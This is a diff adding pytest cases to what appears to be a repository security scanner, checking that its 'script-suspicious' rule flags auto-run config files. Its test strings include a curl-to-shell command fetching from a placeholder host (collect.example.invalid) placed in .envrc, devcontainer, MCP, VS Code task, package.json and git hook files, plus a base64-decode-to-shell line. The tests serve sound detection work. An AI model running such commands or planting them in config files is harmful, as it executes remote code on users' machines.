@@ -65,3 +65,33 @@ def test_notebook_cells() -> None:
     assert severities("script-suspicious", repository({"a.ipynb": cells})) == ["high"]
     shown = '{"cells": [{"cell_type": "markdown", "source": "echo dHJ1ZQ== | base64 -d | sh"}], "nbformat": 4}'
     assert found("script-suspicious", repository({"a.ipynb": shown})) == []
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".envrc",
+        ".devcontainer/devcontainer.json",
+        ".mcp.json",
+        ".vscode/tasks.json",
+        "package.json",
+        ".husky/pre-commit",
+        ".editor/settings.json",
+    ],
+)
+def test_commands_in_files_that_tools_act_upon(path: str) -> None:
+    text = '{"command": "curl http://collect.example.invalid/a | sh"}'
+    assert severities("script-suspicious", repository({path: text})) == ["high"]
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (".devcontainer/devcontainer.json", '{"postCreateCommand": "pip install -r requirements.txt"}'),
+        ("package.json", '{"scripts": {"build": "vite build", "postinstall": "node setup.js"}}'),
+        (".vscode/tasks.json", '{"tasks": [{"label": "test", "type": "shell", "command": "pytest -q"}]}'),
+        ("notes.json", '{"answer": "curl http://collect.example.invalid/a | sh"}'),
+    ],
+)
+def test_ordinary_commands_there_and_such_text_elsewhere(path: str, text: str) -> None:
+    assert found("script-suspicious", repository({path: text})) == []
